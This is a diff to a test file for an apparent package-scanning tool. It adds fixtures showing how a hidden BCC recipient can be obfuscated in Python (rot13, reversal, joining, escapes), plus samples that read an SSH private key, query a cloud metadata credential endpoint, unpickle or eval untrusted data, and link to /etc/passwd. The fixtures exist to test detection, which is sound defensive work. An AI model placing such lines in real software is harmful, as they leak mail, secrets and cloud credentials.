@@ -7,7 +7,7 @@ import json
 import pytest
 
 from pinwarden.surface.digest import digest
-from pinwarden.tree import Blob
+from pinwarden.tree import Blob, BlobKind
 
 ADDRESS = "a@mailroom-archive.net"
 
@@ -57,6 +57,36 @@ RECIPIENTS = {
     "of a default": f'function send2(bcc = "{ADDRESS}") {{ send({{ bcc }}); }}',
 }
 """TypeScript that writes to a fixed address."""
+IN_PYTHON = {
+    "a keyword": f'send(bcc="{ADDRESS}")',
+    "a key": f'mail["Bcc"] = "{ADDRESS}"',
+    "a key of a mapping": f'send({{"bcc": "{ADDRESS}"}})',
+    "a default": f'def copy(text, bcc="{ADDRESS}"): send(bcc=bcc)',
+    "a default of a keyword": f'def copy(text, *, to, bcc="{ADDRESS}"): send(bcc=bcc)',
+    "a name given on the way": f'if (bcc := "{ADDRESS}"): send(bcc=bcc)',
+    "filled in": 'send(bcc="%s@%s" % ("a", "mailroom-archive.net"))',
+    "filled in by name": 'send(bcc="{}@{}".format("a", "mailroom-archive.net"))',
+    "joined": 'send(bcc="@".join(["a", "mailroom-archive.net"]))',
+    "replaced": 'send(bcc="a#mailroom-archive.net".replace("#", "@"))',
+    "turned round": 'send(bcc="ten.evihcra-moorliam@a"[::-1])',
+    "turned by thirteen": 'import codecs\nsend(bcc=codecs.decode("n@znvyebbz-nepuvir.arg", "rot13"))',
+    "of a function": f'def where(): return "{ADDRESS}"\nsend(bcc=where())',
+    "of a lambda": f'where = lambda: "{ADDRESS}"\nsend(bcc=where())',
+    "of several": f'first, *rest = ["{ADDRESS}", "b"]\nsend(bcc=first)',
+    "of the rest": f'first, *bcc = ["b", "{ADDRESS}"]\nsend(bcc=bcc)',
+}
+"""The same in Python."""
+OTHERS = {
+    "unpickling": ("a.py", "import pickle\npickle.loads(x)", "may run what it reads"),
+    "code made at run time": ("a.py", "eval(made)", "runs code that is made at run time"),
+    "a variable made at run time": ("a.py", "import os\nos.environ[made()]", "whose name is made at run time"),
+    "a place of secrets": ("a.py", "open('/home/a/.ssh/id_rsa')", "a place where secrets are kept"),
+    "a cloud's credentials": ("a.py", "get('http://169.254.169.254/latest')", "where a cloud gives out credentials"),
+    "native code": ("binding.gyp", "{}", "makes npm build native code"),
+    "a step of the installation": ("setup.py", "setup(cmdclass={})", "replaces a step of the installation"),
+    "letters by number": ("a.ts", 'send({ bcc: "\\x61@mailroom-archive.net" });', ADDRESS),
+    "letters of more places": ("a.ts", 'send({ bcc: "\\u{61}@mailroom-archive.net" });', ADDRESS),
+}
 UNVERIFIED = {
     "a keyword": ("a.py", "requests.get(u, verify=False)"),
     "an attribute": ("a.py", "session.verify = False"),
@@ -103,6 +133,23 @@ def test_a_process_is_seen_in_every_form(form: str) -> None:
 @pytest.mark.parametrize("form", RECIPIENTS)
 def test_a_fixed_recipient_is_seen_in_every_form(form: str) -> None:
     assert f"mail goes to the fixed address {ADDRESS} (bcc)" in said("a.ts", RECIPIENTS[form]), said("a.ts", RECIPIENTS[form])
+
+
+@pytest.mark.parametrize("form", IN_PYTHON)
+def test_a_fixed_recipient_is_seen_in_every_form_of_python(form: str) -> None:
+    assert "high mail goes to" in said("a.py", IN_PYTHON[form]), said("a.py", IN_PYTHON[form])
+
+
+@pytest.mark.parametrize("what", OTHERS)
+def test_other_behaviour_is_named(what: str) -> None:
+    path, text, words = OTHERS[what]
+    assert words in said(path, text), said(path, text)
+
+
+def test_what_is_too_much_is_said() -> None:
+    assert "larger than" in said("a.ts", "x;" * 3_000_000)
+    link = digest({}, {"a": Blob(b"/etc/passwd", BlobKind.SYMLINK), "b": Blob(b"c", BlobKind.SYMLINK)}, "")
+    assert [item.says for item in link.items] == ["a link that leads to /etc/passwd"]
 
 
 def test_controls_without_it_nothing_is_said() -> None:
